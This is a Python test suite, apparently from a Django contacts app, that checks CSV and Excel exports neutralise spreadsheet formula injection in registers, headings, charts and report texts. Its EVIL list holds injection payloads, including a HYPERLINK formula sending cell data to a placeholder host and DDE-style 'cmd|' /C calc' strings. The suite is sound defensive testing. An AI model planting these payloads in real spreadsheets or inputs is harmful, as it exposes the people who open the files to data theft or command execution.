"""No text of a person becomes a formula, in whichever column it was typed."""

from __future__ import annotations

import csv
import io
from zipfile import ZipFile

import openpyxl
import pytest
from django.utils import timezone

from contacts.exports import Column, Sort, Table, Workbook, csv_chunks
from contacts.exports.csv_file import FORMULA_SIGNS
from contacts.exports.monthly import write_month
from contacts.exports.part_sheets import looks_of, write_part
from contacts.exports.registers import REGISTERS, table
from contacts.models import ReportText
from contacts.reports.monthly import build, period_of, problems
from contacts.reports.monthly.shapes import Chart, Grid, Head, Part, Series, row

EVIL = (
    '=HYPERLINK("http://x.example/"&A1,"看")',
    "+886 2 5550101",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1＋1",
    "%0A-3+3",
    "|calc",
)


def sheets_of(raw: bytes) -> list[bytes]:
    with ZipFile(io.BytesIO(raw)) as file:
        names = [n for n in file.namelist() if n.startswith("xl/worksheets/sheet")]
        return [file.read(name) for name in names]


@pytest.mark.parametrize("register", REGISTERS, ids=lambda register: register.name)
@pytest.mark.parametrize("evil", EVIL)
def test_no_column_of_a_register_lets_a_formula_out(register, evil, estate):
    window = build_windows(estate)
    columns = table(register, window, {}).columns
    texts = [n for n, c in enumerate(columns) if c.sort in (Sort.TEXT, Sort.LONG)]
    assert len(texts) > 10
    line = [evil if n in texts else None for n in range(len(columns))]
    made = Table(register.name, register.title, columns, [line])
    said = b"".join(csv_chunks(made)).decode("utf-8-sig")
    _heads, cells = csv.reader(io.StringIO(said, newline=""))
    for place in texts:
        assert cells[place] == f"'{evil}"
    file = io.BytesIO()
    with Workbook(file) as book:
        book.add(made)
    for sheet in sheets_of(file.getvalue()):
        assert b"<f>" not in sheet and b"<f " not in sheet
    read = openpyxl.load_workbook(io.BytesIO(file.getvalue())).worksheets[0]
    for place in texts:
        cell = read.cell(2, place + 1)
        assert (cell.data_type, cell.hyperlink) == ("s", None)
        assert cell.value == evil.replace("\r", "\n")


def build_windows(estate):
    return build([estate.desk], period_of("2026-10"), timezone.now()).windows


def test_every_sign_that_begins_a_formula_is_tried():
    begun = {evil.lstrip(" ")[0] for evil in EVIL}
    assert {"=", "+", "-", "@", "\t", "\r"} <= begun & set(FORMULA_SIGNS)


@pytest.mark.parametrize("evil", EVIL)
def test_headings_are_defused_too(evil):
    """A desk names its own departments and categories; some become headings."""
    made = Table("n", evil, (Column(evil),), [])
    assert f"'{evil}" in b"".join(csv_chunks(made)).decode().replace('""', '"')


@pytest.mark.parametrize("evil", EVIL)
def test_no_table_of_a_part_lets_a_formula_out(evil):
    """Names of staff, units, matters and sub-categories are what people have typed."""
    heads = (Head(evil), Head(evil), Head(evil, "long"), Head(evil, "number"))
    rows = [row(evil, evil, evil, number) for number in (2, 1)]
    grid = Grid("made", evil, heads, rows, row(evil, evil, evil, 3), note=evil)
    series = (Series(evil, [2, 1]),)
    # A sheet's name and a chart's question are our own words.
    chart = Chart("made", "bars", "問？", evil, [evil, evil], series, "made")
    part = Part(1, "made", "部", charts=[chart], grids=[grid], note=evil)
    file = io.BytesIO()
    with Workbook(file, title=evil, foot=evil) as book:
        write_part(book, looks_of(book), part)
    (sheet,) = sheets_of(file.getvalue())
    assert b"<f>" not in sheet and b"<f " not in sheet
    read = openpyxl.load_workbook(io.BytesIO(file.getvalue())).worksheets[0]
    typed = [cell for line in read.iter_rows() for cell in line if cell.value]
    assert all(cell.data_type in "sn" for cell in typed)
    # As they were typed, and not with an apostrophe before them.
    assert sum(cell.value == evil.replace("\r", "\n") for cell in typed) >= 10
    with ZipFile(io.BytesIO(file.getvalue())) as parts:
        drawing = parts.read("xl/charts/chart1.xml").decode()
    # The chart's title is a text; of cells it knows those of its own sheet alone.
    assert "<c:tx><c:rich>" in drawing


@pytest.mark.parametrize("evil", EVIL[:6])
def test_the_texts_of_a_report_stay_texts(evil, estate):
    report = build([estate.desk], period_of("2026-10"), timezone.now())
    text = ReportText(problems=evil, measures=evil, plan=evil)
    file = io.BytesIO()
    written = [problems.Written(report.desks[0], report.period, text, None)]
    write_month(file, report, {}, written=written)
    assert not any(b"<f>" in sheet for sheet in sheets_of(file.getvalue()))
